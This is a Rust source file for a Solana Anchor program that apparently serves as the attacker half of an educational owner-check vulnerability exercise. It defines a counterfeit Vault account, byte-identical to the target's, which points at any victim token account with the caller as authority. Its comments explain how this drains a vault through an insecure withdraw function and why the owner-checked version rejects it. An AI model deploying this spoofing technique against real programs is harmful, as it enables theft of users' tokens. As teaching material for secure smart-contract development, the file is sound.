#![allow(unexpected_cfgs)]

//! # Clone Program (Owner Check Attacker)
//!
//! Declares the same `Vault` account as `owner-check`, so its records carry the
//! same Anchor discriminator and the same byte layout. The only thing that
//! tells them apart is the runtime owner of the account: this program.
//!
//! `initialize_vault` lets the caller point a vault at ANY existing token
//! account and name themselves the authority. Passed to `owner-check`'s
//! `insecure_withdraw`, such a record drains the real vault's token account.
//! Passed to `secure_withdraw`, it is rejected because `Account<'info, Vault>`
//! requires the account to be owned by `owner-check`.
//!
//! **DO NOT USE THIS CODE FOR MALICIOUS PURPOSES.**
//! This is strictly for educational and security research purposes.

use anchor_lang::prelude::*;
use anchor_spl::token::TokenAccount;

declare_id!("4XTm6QXMNgVJqGd2u14BZRce7PoVGrBGV7AHGwhkWqTy");

/// Anchor account discriminator length
pub const DISCRIMINATOR_SIZE: usize = 8;

#[program]
pub mod clone_owner_check {
    use super::*;

    /// Writes a look-alike vault pointing at an arbitrary token account.
    pub fn initialize_vault(ctx: Context<InitializeVault>) -> Result<()> {
        let vault = &mut ctx.accounts.vault;
        vault.token_account = ctx.accounts.token_account.key();
        vault.authority = ctx.accounts.authority.key();
        vault.mint = ctx.accounts.token_account.mint;

        msg!("// ATTACK: Fake vault created: {}", ctx.accounts.vault.key());
        msg!("// ATTACK: Claims token account: {}", ctx.accounts.token_account.key());
        msg!("// ATTACK: Claims authority: {}", ctx.accounts.authority.key());

        Ok(())
    }
}

#[derive(Accounts)]
pub struct InitializeVault<'info> {
    #[account(
        init,
        payer = authority,
        space = DISCRIMINATOR_SIZE + Vault::INIT_SPACE,
    )]
    pub vault: Account<'info, Vault>,

    /// Someone else's token account; no relationship is checked
    pub token_account: Account<'info, TokenAccount>,

    #[account(mut)]
    pub authority: Signer<'info>,

    pub system_program: Program<'info, System>,
}

/// Byte-for-byte copy of `owner_check::Vault`.
#[account]
#[derive(InitSpace)]
pub struct Vault {
    pub token_account: Pubkey,
    pub authority: Pubkey,
    pub mint: Pubkey,
}
